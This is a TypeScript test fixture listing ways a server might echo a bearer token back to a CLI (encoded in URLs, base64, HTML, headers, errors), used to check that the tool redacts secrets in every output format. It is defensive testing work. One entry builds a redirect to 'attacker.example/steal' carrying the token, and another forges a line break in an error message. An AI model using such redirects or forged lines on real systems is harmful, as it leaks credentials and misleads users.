// The forms a server (or a proxy, or a formatter) can give back a credential in, as
// test/commands/secret-forms.test.ts has a real server echo them to the real bin/svc; apart so
// test/readme-figures.test.ts can count it. Each answer gets the bearer token the server received.

export interface EchoAnswer {
  status: number;
  headers?: Record<string, string>;
  body: string;
}

export interface SecretForm {
  form: string;
  /** What the server answers, given the token it received. */
  answer(token: string): EchoAnswer;
}

const DRAFT = { ok: true, kind: 'email', draftId: 'dr_1', syncStatus: 'synced', revision: 1 };
const ok = (extra: Record<string, unknown>): EchoAnswer => ({ status: 200, body: JSON.stringify({ ...DRAFT, ...extra }) });
const apiError = (message: string, details?: unknown): EchoAnswer => ({
  status: 400,
  body: JSON.stringify({ error: { message, type: 'invalid_request_error', code: 'bad_key', details } }),
});
const base64 = (text: string) => Buffer.from(text).toString('base64');
const jsonAscii = (text: string) =>
  JSON.stringify(text)
    .replace(/\//g, '\\/')
    .replace(/[^\x20-\x7e]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);

export const secretForms: SecretForm[] = [
  { form: 'as sent, in a field', answer: (t) => ok({ echo: t }) },
  {
    form: 'in a field, JSON-escaped with \\/ and \\u escapes',
    answer: (t) => ({ status: 200, body: `{"ok":true,"kind":"email","draftId":"dr_1","syncStatus":"synced","revision":1,"echo":${jsonAscii(t)}}` }),
  },
  { form: 'percent-encoded in a URL', answer: (t) => ok({ link: `https://example.com/cb?key=${encodeURIComponent(t)}` }) },
  { form: 'percent-encoded, lower-case hex', answer: (t) => ok({ link: encodeURIComponent(t).replace(/%[0-9A-F]{2}/g, (h) => h.toLowerCase()) }) },
  { form: 'form-encoded', answer: (t) => ok({ form: `a=1&key=${encodeURIComponent(t).replace(/%20/g, '+')}` }) },
  { form: 'base64 in a Basic credential (user:token)', answer: (t) => ok({ basic: `Basic ${base64(`user:${t}`)}` }) },
  { form: 'base64 after two bytes', answer: (t) => ok({ blob: base64(`ab${t}`) }) },
  { form: 'base64url', answer: (t) => ok({ blob: Buffer.from(`x:${t}`).toString('base64url') }) },
  {
    form: 'HTML-escaped in a template body',
    answer: (t) => ok({ html: `<p>${t.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;')}</p>` }),
  },
  { form: 'in a long string that YAML folds', answer: (t) => ok({ note: `${'lorem ipsum '.repeat(8)}${t}${' dolor sit amet'.repeat(8)}` }) },
  { form: 'across the 4096-character clip of --debug', answer: (t) => ok({ pad: 'p'.repeat(4096 - 100), echo: t }) },
  { form: 'in an error message after a forged line break', answer: (t) => apiError(`rejected\nsvc: the key ${t} is fine`, { got: t }) },
  {
    form: 'in a response header',
    answer: (t) => ({ status: 200, headers: { 'x-echo': t, 'x-echo-encoded': encodeURIComponent(t) }, body: JSON.stringify(DRAFT) }),
  },
  {
    form: 'in a redirect Location, percent-encoded',
    answer: (t) => ({ status: 302, headers: { location: `http://attacker.example/steal?k=${encodeURIComponent(t)}` }, body: '' }),
  },
  { form: 'as a key of an object', answer: (t) => ok({ seen: { [t]: true } }) },
  { form: 'in a list that becomes a table row', answer: (t) => ({ status: 200, body: JSON.stringify([{ taskId: 'tsk_1', note: t }]) }) },
];

/** Each form is printed through each of these: piped JSON, YAML, NDJSON, and the --debug trace. */
export const secretOutputs: string[][] = [[], ['--output', 'yaml'], ['--output', 'ndjson'], ['--debug', '--retries', '0']];
